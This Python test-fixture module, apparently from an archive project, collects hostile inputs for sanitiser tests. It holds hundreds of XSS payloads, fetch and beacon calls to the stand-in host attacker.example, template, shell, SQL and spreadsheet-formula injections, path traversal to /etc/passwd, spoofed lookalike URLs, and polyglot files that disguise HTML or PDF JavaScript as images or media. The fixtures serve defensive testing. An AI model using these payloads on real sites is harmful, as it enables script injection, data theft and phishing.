"""Texts and files with which a message or a name would attack the pages of an archive, the people who read them, or the
browser that shows them.

Whatever runs calls `pwned`, which the trap of the tests notices; whatever is fetched goes to the domain in HOST, which
cannot exist (RFC 2606). Written for this project; each technique is told in the name of its group.
"""

HOST = "attacker.example"
CALL = "pwned()"


def _grouped():
    """Pairs of a group and its texts."""
    yield "script elements", [
        f"<script>{CALL}</script>",
        f"<ScRiPt>{CALL}</sCrIpT>",
        f"<script >{CALL}</script >",
        f"<script/x>{CALL}</script>",
        f"<script\n>{CALL}</script\n>",
        f"<script\t>{CALL}</script\t>",
        f"<script src=https://{HOST}/x.js></script>",
        f"<script src=//{HOST}/x.js></script>",
        f"<script src=data:text/javascript,{CALL}></script>",
        f"<script type=module>{CALL}</script>",
        f"<script type=module src='data:text/javascript,{CALL}'></script>",
        f"<script>{CALL}",
        f"<<script>{CALL}//<</script>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"</script><script>{CALL}</script>",
        f"--></script><script>{CALL}</script><!--",
        f"]]><script>{CALL}</script><![CDATA[",
        f"</style><script>{CALL}</script>",
        f"</title><script>{CALL}</script>",
        f"</textarea><script>{CALL}</script>",
        f"</noscript><script>{CALL}</script>",
        f"</template><script>{CALL}</script>",
        f"</svg><script>{CALL}</script>",
        f"</bdi></p></article></main><script>{CALL}</script>",
        f"<noscript><p title=\"</noscript><script>{CALL}</script>\">",
        f"<!--><script>{CALL}</script>",
        f"<!--!><script>{CALL}</script>--!>",
        f"<?xml-stylesheet href=\"javascript:{CALL}\"?>",
        f"<!DOCTYPE html [<!ENTITY x \"<script>{CALL}</script>\">]>&x;",
    ]
    yield "attributes that run", [
        f"\" onmouseover=\"{CALL}",
        f"' onmouseover='{CALL}",
        f"` onmouseover=`{CALL}",
        f"\" autofocus onfocus={CALL} x=\"",
        f"' autofocus onfocus={CALL} x='",
        f"\"><img src=x onerror={CALL}>",
        f"'><img src=x onerror={CALL}>",
        f"><img src=x onerror={CALL}>",
        f"<img src=x onerror={CALL}>",
        f"<img src=x onerror=\"{CALL}\"//",
        f"<img/src=x/onerror={CALL}>",
        f"<img src=x:x onerror\n=\n{CALL}>",
        f"<IMG SRC=x ONERROR={CALL}>",
        f"<img src='x' o&#110;error='{CALL}'>",
        f"<img src=x onerror=&#112;wned()>",
        f"<img srcset='x 1x' onerror={CALL}>",
        f"<body onload={CALL}>",
        f"<body onpageshow={CALL}>",
        f"<svg onload={CALL}>",
        f"<svg/onload={CALL}>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{CALL}>",
        f"<video src=x onerror={CALL}>",
        f"<video><source onerror={CALL}></video>",
        f"<audio src=x onerror={CALL}>",
        f"<details open ontoggle={CALL}>",
        f"<input autofocus onfocus={CALL}>",
        f"<select autofocus onfocus={CALL}>",
        f"<textarea autofocus onfocus={CALL}>",
        f"<marquee onstart={CALL}>",
        f"<iframe onload={CALL}>",
        f"<object data=x onerror={CALL}>",
        f"<link rel=stylesheet href=x onerror={CALL}>",
        f"<p style='animation:x' onanimationstart={CALL}>",
        f"<p oncontentvisibilityautostatechange={CALL} style=content-visibility:auto>",
        f"<div popover onbeforetoggle={CALL} id=p></div><button popovertarget=p>",
        f"<xss tabindex=1 onfocus={CALL} autofocus>",
        f"<dialog open onclose={CALL}><form method=dialog><button autofocus>",
        f"x onclick={CALL} y",
        f"/onclick={CALL}//",
    ]
    yield "links", [
        f"javascript:{CALL}",
        f"JavaScript:{CALL}",
        f"java\tscript:{CALL}",
        f"java\nscript:{CALL}",
        f"\x01javascript:{CALL}",
        f" javascript:{CALL}",
        f"javascript&colon;{CALL}",
        f"&#106;avascript:{CALL}",
        f"javascript://x%0a{CALL}",
        f"javascript://{HOST}/%0a{CALL}",
        f"vbscript:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
        f"blob:https://{HOST}/x",
        f"filesystem:https://{HOST}/x",
        f"view-source:javascript:{CALL}",
        "file:///etc/passwd",
        f"<a href=javascript:{CALL}>open</a>",
        f"<a href=' &#14; javascript:{CALL}'>open</a>",
        f"<a href=\"https://{HOST}\" ping=\"https://{HOST}/ping\">open</a>",
        f"<area href=javascript:{CALL}>",
        f"<form action=javascript:{CALL}><input type=submit autofocus></form>",
        f"<button formaction=javascript:{CALL}>open</button>",
        f"<math href=javascript:{CALL}>open</math>",
        f"<svg><a xlink:href=javascript:{CALL}><text y=9>open</text></a></svg>",
        f"https://{HOST}/\" onmouseover=\"{CALL}",
        f"https://{HOST}/'onmouseover='{CALL}",
        f"https://{HOST}/<script>{CALL}</script>",
        f"https://bank.example@{HOST}/login",
        f"https://bank.example%2F@{HOST}/login",
        f"https://bank.example\u2215login.{HOST}/",
        f"https://b\u0430nk.example/",
        f"https://xn--bnk-8cd.example/",
        f"https://{HOST}/\u202Egpj.exe",
        f"https://{HOST}\\@bank.example/",
        f"http://[::1]:8080/x http://0x7f000001/ http://2130706433/",
        f"www.{HOST} mailto:a@{HOST}?subject=<script>{CALL}</script> tel:+1&#x27;onclick={CALL}",
        f"[click](javascript:{CALL}) ![x](https://{HOST}/x.png)",
        f"https://{HOST}/" + "a" * 3000,
        f"https://user:{CALL}@{HOST}:99999/?q=#frag\u0000ment",
    ]
    yield "loads from elsewhere", [
        f"<img src=https://{HOST}/a.png>",
        f"<img src=//{HOST}/b.png>",
        f"<img srcset=\"https://{HOST}/c.png 1x\">",
        f"<image href=https://{HOST}/d.png>",
        f"<svg><image href=https://{HOST}/e.png /></svg>",
        f"<svg><use href=https://{HOST}/f.svg#x /></svg>",
        f"<link rel=stylesheet href=https://{HOST}/g.css>",
        f"<link rel=prefetch href=https://{HOST}/h>",
        f"<link rel=dns-prefetch href=//dns.{HOST}>",
        f"<link rel=preconnect href=https://pre.{HOST}>",
        f"<link rel=icon href=https://{HOST}/i.ico>",
        f"<link rel=manifest href=https://{HOST}/j.json>",
        f"<iframe src=https://{HOST}/k></iframe>",
        f"<iframe srcdoc=\"<script>{CALL}</script>\"></iframe>",
        f"<frameset><frame src=https://{HOST}/l></frameset>",
        f"<object data=https://{HOST}/m></object>",
        f"<embed src=https://{HOST}/n>",
        f"<video poster=https://{HOST}/o.png src=https://{HOST}/p.mp4 autoplay></video>",
        f"<audio src=https://{HOST}/q.mp3 autoplay></audio>",
        f"<track src=https://{HOST}/r.vtt default>",
        f"<input type=image src=https://{HOST}/s.png>",
        f"<table background=https://{HOST}/t.png>",
        f"<base href=https://{HOST}/>",
        f"<meta http-equiv=refresh content=\"0;url=https://{HOST}/u\">",
        f"<meta http-equiv=refresh content=\"0;url=javascript:{CALL}\">",
        f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        f"<meta name=referrer content=unsafe-url><img src=https://{HOST}/v>",
        f"<portal src=https://{HOST}/w></portal>",
        f"<script>new WebSocket('wss://{HOST}/x');fetch('https://{HOST}/y');navigator.sendBeacon('https://{HOST}/z')</script>",
    ]
    yield "style", [
        f"<style>@import 'https://{HOST}/a.css';</style>",
        f"<style>*{{background:url(https://{HOST}/b.png)}}</style>",
        f"<div style=\"background:url(https://{HOST}/c.png)\">x</div>",
        f"<div style='position:fixed;inset:0;background:red;z-index:9999'>covers the page</div>",
        f"\" style=\"position:fixed;inset:0;background:red",
        f"</style><style>.badge{{display:none}}</style>",
        f"<style>@font-face{{font-family:x;src:url(https://{HOST}/f.woff)}}*{{font-family:x}}</style>",
        f"expression({CALL})",
        f"<div style=\"width:expression({CALL})\">",
        "x;} body{display:none} .y{",
        f"url(javascript:{CALL})",
        "--x:</style>",
    ]
    yield "entities and encodings", [
        f"&lt;script&gt;{CALL}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{CALL}",
        f"&#60;script&#62;{CALL}&#60;/script&#62;",
        f"&#x3c;script&#x3e;{CALL}&#x3c;/script&#x3e;",
        f"&LT;script&GT;{CALL}&LT;/script&GT;",
        "&notareal; & && &amp &#0; &#x110000; &#xD800; &#",
        f"%3Cscript%3E{CALL}%3C/script%3E",
        f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
        f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
        f"\uFF1Cscript\uFF1E{CALL}\uFF1C/script\uFF1E",
        f"\u2039script\u203A{CALL}",
        f"\uFFFD\uFFFD<script>{CALL}</script>",
        f"\u00BCscript\u00BE{CALL}\u00BC/script\u00BE",
        f"&nbsp;&zwj;&rlm;&lrm;&shy;",
        f"&quot; onclick=&quot;{CALL}&quot; x=&quot;",
        f"&#34; onclick=&#34;{CALL}",
        f"\u0130<\u0131mg src=x onerror={CALL}>",
    ]
    yield "strings of scripts", [
        f"';{CALL};//",
        f"\";{CALL};//",
        f"`;{CALL};//",
        f"${{{CALL}}}",
        f"\\';{CALL};//",
        f"\\\";{CALL};//",
        "\\",
        "\\\\",
        f"\");{CALL};(\"",
        f"'-{CALL}-'",
        f"\"-{CALL}-\"",
        f"\u2028{CALL}//",
        f"\u2029{CALL}//",
        f"\n{CALL}\n",
        f"*/{CALL}/*",
        f"//\n{CALL}",
        f"</script/><script>{CALL}//",
        f"<!--{CALL}",
        f"<!--<script>",
        f"]]>",
        f"-->",
        f"--!>",
        f"{{\"__proto__\":{{\"polluted\":\"{CALL}\"}}}}",
        "\\u2028\\u2029\\ud800",
        f"window.onerror={CALL}",
        f"[].constructor.constructor('{CALL}')()",
    ]
    yield "templates", [
        "{{constructor.constructor('pwned()')()}}",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{%raw%}{{pwned()}}{%endraw%}",
        "[[${7*7}]]",
        "@(7*7)",
        "{label}",
        "{count} {0} %s %n %@ %1$s",
        "$(touch /tmp/pwned) `touch /tmp/pwned` ; touch /tmp/pwned",
        "=HYPERLINK(\"https://attacker.example\",\"x\")",
        "+1+cmd|' /C calc'!A0",
        "' OR 1=1 --",
        "\"; DROP TABLE messages; --",
    ]
    yield "names of prototypes and of the page", [
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__",
        "document", "location", "alert", "cookie", "body", "head", "forms", "getElementById", "title", "theme", "search",
        "<img name=getElementById><form id=documentElement><input name=attributes></form>",
        "<a id=CONFIG href=javascript:pwned()><a id=CONFIG name=script href=//attacker.example/x.js>",
        "undefined", "null", "NaN", "true", "0", "-0", "[object Object]", "length",
    ]
    yield "controls and directions", [
        "a\u0000b",
        "".join(chr(code) for code in range(1, 0x20) if code not in (9, 10, 13)),
        "\u007F\u0080\u0085\u009B31mred\u009F",
        "\u001B[31mred\u001B]0;title\u0007",
        "\u202Egnp.exe\u202C",
        "\u202Dover\u202C\u202Aembed\u202C\u2066isolate",
        "\u2067unclosed isolate \u2068and another",
        "\u2069\u2069\u2069\u202C\u202C\u202C closes what it did not open",
        "\u200F\u200Esafe\u061C",
        "\u200B\u200C\u200D\u2060\uFEFF",
        "\uFFF9annotated\uFFFAnote\uFFFB",
        "\u2028\u2029\u0085",
        "Z" + "\u0300\u0301\u0302\u0303\u0304" * 60,
        "\uE000\uF8FF\U000F0000",
        "\uFFFE\uFFFF\U0001FFFF",
        "\U000E0001\U000E0041\U000E0042",
        "verified \u2713 signed \U0001F512 sealed",
        "\u05E9\u05DC\u05D5\u05DD <script>pwned()</script> \u0645\u0631\u062D\u0628\u0627",
        "\r\rreturn\r\n\r\n",
        "\t\ttabs\t\t",
        "   leading and trailing   ",
    ]
    yield "lengths", [
        "W" * 5000,
        "\u4E2D" * 3000,
        "\U0001F468\u200D\U0001F469\u200D\U0001F467" * 200,
        "<" * 2000,
        "&" * 2000,
        "\"" * 2000,
        "a " * 4000,
        "\n" * 500,
        "<b>" * 1000,
        "\u200D" * 2000,
    ]
    yield "names of files", [
        "../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "/etc/passwd",
        "C:\\autoexec.bat",
        "\\\\attacker.example\\share\\x.png",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "picture.png\u0000.html",
        "picture.png/../../index.html",
        "picture.png.html",
        "picture.svg",
        "picture.php.jpg",
        ".htaccess",
        "..",
        ".",
        "",
        "con.jpg",
        "nul",
        "a" * 300 + ".png",
        "x\" onerror=\"pwned()\".png",
        "x<script>pwned()</script>.png",
        "gpj.\u202Egnp.exe",
        "picture.png?x=<script>pwned()</script>#\"",
        "javascript:pwned().png",
        "style.css", "script.js", "index.html",
    ]


def texts():
    """Every text: (group, text)."""
    for group, members in _grouped():
        for text in members:
            yield group, text


def png(width=64, height=48, color=(90, 140, 200)):
    """A picture of one colour, made without a library."""
    import struct
    import zlib

    rows = b"".join(b"\x00" + bytes(color) * width for _ in range(height))

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))
            + chunk(b"tEXt", b"Comment\x00<script>pwned()</script>") + chunk(b"IEND", b""))


def files():
    """Contents that attack: (name, media type that the message claims, bytes)."""
    script = b"<script>pwned()</script>"
    html = b"<!DOCTYPE html><html><body onload=pwned()>" + script + b"</body></html>"
    svg = (b"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'>" + script
           + b"<image href='https://attacker.example/x.png'/></svg>")
    yield "picture.png", "image/png", png()
    yield "picture-claims-html.html", "text/html", png(32, 32, (200, 90, 90))
    yield "html-claims-picture.png", "image/png", html
    yield "html-claims-picture.jpg", "image/jpeg", html
    yield "svg-claims-picture.png", "image/png", svg
    yield "drawing.svg", "image/svg+xml", svg
    yield "page.html", "text/html", html
    yield "page.xhtml", "application/xhtml+xml", b"<html xmlns='http://www.w3.org/1999/xhtml'>" + script + b"</html>"
    yield "feed.xml", "text/xml", (b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://attacker.example/x'?>"
                                   b"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwned()</x:script>")
    yield "program.js", "text/javascript", b"pwned()"
    yield "program-claims-sound.mp3", "audio/mpeg", b"pwned()"
    yield "style.css", "text/css", b"*{background:url(https://attacker.example/x)}"
    yield "paper.pdf", "application/pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
    yield "empty.png", "image/png", b""
    yield "empty.mp4", "video/mp4", b""
    yield "one-byte.jpg", "image/jpeg", b"\xff"
    yield "gif-and-script.gif", "image/gif", b"GIF89a/*" + b"\x00" * 8 + b"*/=pwned();//"
    yield "gif-and-html.gif", "image/gif", b"GIF89a" + html
    yield "jpeg-and-html.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + html
    yield "bmp-and-script.bmp", "image/bmp", b"BM=1;pwned()//"
    yield "webp-and-html.webp", "image/webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + html
    yield "wav-and-script.wav", "audio/wav", b"RIFF=pwned();//WAVEfmt " + script
    yield "ogg-and-html.ogg", "audio/ogg", b"OggS\x00\x02" + html
    yield "mp4-and-html.mp4", "video/mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + html
    yield "marks-before-html.txt", "text/plain", b"\xef\xbb\xbf" + html
    yield "utf16.txt", "text/plain", ("\ufeff" + html.decode()).encode("utf-16-le")
    yield "utf7.txt", "text/plain", b"+ADw-script+AD4-pwned()+ADw-/script+AD4-"
    yield "archive.zip", "application/zip", b"PK\x03\x04" + html
    yield "program.exe", "application/x-msdownload", b"MZ" + b"\x00" * 64
    yield "shortcut.url", "text/plain", b"[InternetShortcut]\r\nURL=javascript:pwned()\r\n"
    yield "mail.eml", "message/rfc822", b"Content-Type: text/html\r\n\r\n" + html
    yield "web.mht", "multipart/related", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + html
    yield "card.vcf", "text/vcard", b"BEGIN:VCARD\r\nFN:" + script + b"\r\nURL:javascript:pwned()\r\nEND:VCARD\r\n"


if __name__ == "__main__":
    count = len(list(texts()))
    print(f"{count} texts, {len(list(files()))} files")
